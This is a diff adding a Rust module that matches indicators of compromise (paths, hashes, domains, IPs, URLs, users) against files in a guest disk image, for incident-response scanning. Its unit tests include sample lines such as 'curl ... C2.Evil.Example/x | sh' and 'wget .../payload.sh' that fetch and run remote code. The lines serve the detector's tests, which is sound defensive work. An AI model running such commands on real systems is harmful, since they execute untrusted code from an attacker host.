@@ -0,0 +1,380 @@
+// SPDX-License-Identifier: LGPL-3.0-or-later
+//! Matching indicators against a guest
+//!
+//! - Paths are checked for existence, file names and hashes against the
+//!   files below [`FILE_DIRS`]
+//! - Domains, IPs and URLs are looked for in `/etc/hosts`,
+//!   `/etc/resolv.conf`, shell histories and browser history databases;
+//!   a domain also matches its subdomains
+//! - Users are looked up in `/etc/passwd`
+
+use super::{severity_rank, Indicator, IocSet, Kind};
+use crate::cli::secrets::is_binary;
+use guestkit::Guestfs;
+use md5::Md5;
+use regex::Regex;
+use serde::Serialize;
+use sha1::Sha1;
+use sha2::{Digest, Sha256};
+use std::collections::{HashMap, HashSet};
+use std::sync::OnceLock;
+
+/// Where file names and hashes are looked for
+pub const FILE_DIRS: &[&str] = &[
+    "/tmp",
+    "/var/tmp",
+    "/dev/shm",
+    "/root",
+    "/home",
+    "/opt",
+    "/srv",
+    "/var/www",
+    "/usr/local",
+    "/bin",
+    "/sbin",
+    "/usr/bin",
+    "/usr/sbin",
+    "/etc",
+];
+
+/// Files larger than this are not hashed
+const MAX_HASH_SIZE: i64 = 64 * 1024 * 1024;
+
+/// Shell histories, relative to a home directory
+const HISTORY_FILES: &[&str] = &[
+    ".bash_history",
+    ".zsh_history",
+    ".ash_history",
+    ".sh_history",
+    ".history",
+    ".local/share/fish/fish_history",
+    ".python_history",
+    ".mysql_history",
+    ".psql_history",
+];
+
+/// Browser profile roots relative to a home directory, with the name of
+/// their history database
+const BROWSER_PROFILES: &[(&str, &str)] = &[
+    (".mozilla/firefox", "places.sqlite"),
+    (".config/google-chrome", "History"),
+    (".config/chromium", "History"),
+    (".config/BraveSoftware/Brave-Browser", "History"),
+    (".config/microsoft-edge", "History"),
+];
+
+/// An indicator found in the guest
+#[derive(Debug, Clone, Serialize)]
+pub struct IocMatch {
+    #[serde(rename = "type")]
+    pub kind: &'static str,
+    pub value: String,
+    pub severity: String,
+    pub description: String,
+    pub source: String,
+    /// Guest file the indicator was found in or at
+    pub location: String,
+    /// The line that matched, for text sources
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub evidence: Option<String>,
+}
+
+impl IocMatch {
+    fn new(indicator: &Indicator, location: &str, evidence: Option<&str>) -> Self {
+        Self {
+            kind: indicator.kind.label(),
+            value: indicator.value.clone(),
+            severity: indicator.severity.clone(),
+            description: indicator.description.clone(),
+            source: indicator.source.clone(),
+            location: location.to_string(),
+            evidence: evidence.map(|e| {
+                let e = e.trim();
+                match e.char_indices().nth(200) {
+                    Some((cut, _)) => format!("{}...", &e[..cut]),
+                    None => e.to_string(),
+                }
+            }),
+        }
+    }
+}
+
+/// Indicators by kind and value, for lookups
+struct Index<'a> {
+    by_value: HashMap<(Kind, &'a str), &'a Indicator>,
+    urls: Vec<&'a Indicator>,
+}
+
+impl<'a> Index<'a> {
+    fn new(set: &'a IocSet) -> Self {
+        let mut by_value = HashMap::new();
+        let mut urls = Vec::new();
+        for indicator in &set.indicators {
+            if indicator.kind == Kind::Url {
+                urls.push(indicator);
+            } else {
+                by_value.insert((indicator.kind, indicator.value.as_str()), indicator);
+            }
+        }
+        Self { by_value, urls }
+    }
+
+    fn get(&self, kind: Kind, value: &str) -> Option<&'a Indicator> {
+        self.by_value.get(&(kind, value)).copied()
+    }
+
+    fn has(&self, kinds: &[Kind]) -> bool {
+        self.by_value.keys().any(|(k, _)| kinds.contains(k))
+    }
+
+    /// The domain indicator a host name falls under
+    fn domain(&self, host: &str) -> Option<&'a Indicator> {
+        let host = host.trim_end_matches('.').to_ascii_lowercase();
+        let mut rest = host.as_str();
+        loop {
+            if let Some(indicator) = self.get(Kind::Domain, rest) {
+                return Some(indicator);
+            }
+            rest = rest.split_once('.')?.1;
+            if !rest.contains('.') {
+                return None;
+            }
+        }
+    }
+
+    /// Network indicators in a line of text
+    fn network(&self, line: &str) -> Vec<&'a Indicator> {
+        static HOST: OnceLock<Regex> = OnceLock::new();
+        static IP: OnceLock<Regex> = OnceLock::new();
+        let host = HOST.get_or_init(|| {
+            Regex::new(r"(?i)\b[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?)+\b").unwrap()
+        });
+        let ip = IP.get_or_init(|| {
+            Regex::new(r"(?i)\b(?:\d{1,3}(?:\.\d{1,3}){3}|[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7})\b")
+                .unwrap()
+        });
+
+        let mut found: Vec<&Indicator> = Vec::new();
+        for m in ip.find_iter(line) {
+            let canonical = m
+                .as_str()
+                .parse::<std::net::IpAddr>()
+                .map(|a| a.to_string());
+            if let Some(indicator) = canonical.ok().and_then(|a| self.get(Kind::Ip, &a)) {
+                found.push(indicator);
+            }
+        }
+        for m in host.find_iter(line) {
+            if let Some(indicator) = self.domain(m.as_str()) {
+                found.push(indicator);
+            }
+        }
+        found.extend(self.urls.iter().filter(|u| line.contains(u.value.as_str())));
+
+        let mut seen = HashSet::new();
+        found.retain(|i| seen.insert((i.kind, i.value.as_str())));
+        found
+    }
+}
+
+fn hex(digest: &[u8]) -> String {
+    digest.iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+/// Home directories of the guest
+fn homes(g: &mut Guestfs) -> Vec<String> {
+    let mut homes = vec!["/root".to_string()];
+    for entry in g.ls("/home").unwrap_or_default() {
+        let home = format!("/home/{}", entry);
+        if g.is_dir(&home).unwrap_or(false) {
+            homes.push(home);
+        }
+    }
+    homes
+}
+
+/// Guest text files that record network activity
+pub fn network_sources(g: &mut Guestfs) -> Vec<String> {
+    let mut sources = vec!["/etc/hosts".to_string(), "/etc/resolv.conf".to_string()];
+    for home in homes(g) {
+        for history in HISTORY_FILES {
+            let path = format!("{}/{}", home, history);
+            if g.is_file(&path).unwrap_or(false) {
+                sources.push(path);
+            }
+        }
+        for (root, database) in BROWSER_PROFILES {
+            let root = format!("{}/{}", home, root);
+            if !g.is_dir(&root).unwrap_or(false) {
+                continue;
+            }
+            let suffix = format!("/{}", database);
+            sources.extend(
+                g.find(&root)
+                    .unwrap_or_default()
+                    .into_iter()
+                    .filter(|f| f.ends_with(&suffix)),
+            );
+        }
+    }
+    sources
+}
+
+/// Every indicator of the set found in the guest, most severe first
+///
+/// `progress` is called with a description of each stage.
+pub fn scan(g: &mut Guestfs, set: &IocSet, mut progress: impl FnMut(&str)) -> Vec<IocMatch> {
+    let index = Index::new(set);
+    let mut matches = Vec::new();
+
+    // Paths
+    for indicator in set.indicators.iter().filter(|i| i.kind == Kind::Path) {
+        if g.exists(&indicator.value).unwrap_or(false) {
+            matches.push(IocMatch::new(indicator, &indicator.value, None));
+        }
+    }
+
+    // File names and hashes
+    let names = index.has(&[Kind::FileName]);
+    let hashes = index.has(&[Kind::Md5, Kind::Sha1, Kind::Sha256]);
+    if names || hashes {
+        progress(if hashes {
+            "Hashing files..."
+        } else {
+            "Looking for file names..."
+        });
+        let mut seen = HashSet::new();
+        for dir in FILE_DIRS {
+            if !g.is_dir(dir).unwrap_or(false) {
+                continue;
+            }
+            for file in g.find(dir).unwrap_or_default() {
+                if !seen.insert(file.clone()) {
+                    continue;
+                }
+                if names {
+                    let name = file.rsplit('/').next().unwrap_or("");
+                    if let Some(indicator) = index.get(Kind::FileName, name) {
+                        matches.push(IocMatch::new(indicator, &file, None));
+                    }
+                }
+                if !hashes {
+                    continue;
+                }
+                match g.stat(&file) {
+                    Ok(stat) if stat.size <= MAX_HASH_SIZE => {}
+                    _ => continue,
+                }
+                let Ok(content) = g.read_file(&file) else {
+                    continue;
+                };
+                let digests = [
+                    (Kind::Md5, hex(&Md5::digest(&content))),
+                    (Kind::Sha1, hex(&Sha1::digest(&content))),
+                    (Kind::Sha256, hex(&Sha256::digest(&content))),
+                ];
+                for (kind, digest) in &digests {
+                    if let Some(indicator) = index.get(*kind, digest) {
+                        matches.push(IocMatch::new(indicator, &file, None));
+                    }
+                }
+            }
+        }
+    }
+
+    // Domains, IPs and URLs
+    if index.has(&[Kind::Domain, Kind::Ip]) || !index.urls.is_empty() {
+        progress("Searching hosts, resolver, shell and browser history...");
+        for source in network_sources(g) {
+            let Ok(content) = g.read_file(&source) else {
+                continue;
+            };
+            let binary = is_binary(&content);
+            let text = String::from_utf8_lossy(&content);
+            let mut reported = HashSet::new();
+            for line in text.lines() {
+                let line = line.trim();
+                if line.starts_with('#') {
+                    continue;
+                }
+                for indicator in index.network(line) {
+                    // Report each indicator once per file
+                    if reported.insert((indicator.kind, indicator.value.as_str())) {
+                        let evidence = (!binary).then_some(line);
+                        matches.push(IocMatch::new(indicator, &source, evidence));
+                    }
+                }
+            }
+        }
+    }
+
+    // Users
+    if index.has(&[Kind::User]) {
+        if let Ok(content) = g.read_file("/etc/passwd") {
+            for line in String::from_utf8_lossy(&content).lines() {
+                let user = line.split(':').next().unwrap_or("");
+                if let Some(indicator) = index.get(Kind::User, user) {
+                    matches.push(IocMatch::new(indicator, "/etc/passwd", Some(line)));
+                }
+            }
+        }
+    }
+
+    matches.sort_by(|a, b| {
+        (severity_rank(&a.severity), &a.location, &a.value).cmp(&(
+            severity_rank(&b.severity),
+            &b.location,
+            &b.value,
+        ))
+    });
+    matches
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn set() -> IocSet {
+        let mut set = IocSet::default();
+        for (kind, value) in [
+            (Kind::Domain, "evil.example"),
+            (Kind::Ip, "203.0.113.7"),
+            (Kind::Ip, "2001:db8::7"),
+            (Kind::Url, "http://cdn.example/payload.sh"),
+        ] {
+            set.push(Indicator::new(kind, value, "high", "", "test").unwrap());
+        }
+        set
+    }
+
+    #[test]
+    fn test_network_matches() {
+        let set = set();
+        let index = Index::new(&set);
+        let values = |line: &str| {
+            index
+                .network(line)
+                .iter()
+                .map(|i| i.value.clone())
+                .collect::<Vec<_>>()
+        };
+
+        assert_eq!(values("203.0.113.7 update.microsoft.com"), ["203.0.113.7"]);
+        assert_eq!(
+            values("curl -s https://C2.Evil.Example/x | sh"),
+            ["evil.example"]
+        );
+        assert_eq!(values("nameserver 2001:0db8:0:0::7"), ["2001:db8::7"]);
+        assert_eq!(
+            values("wget http://cdn.example/payload.sh"),
+            ["http://cdn.example/payload.sh"]
+        );
+        assert!(values("ping notevil.example.org 203.0.113.70").is_empty());
+        assert!(values("evil.example.com").is_empty());
+    }
+
+    #[test]
+    fn test_hex() {
+        assert_eq!(hex(&Md5::digest(b"")), "d41d8cd98f00b204e9800998ecf8427e");
+    }
+}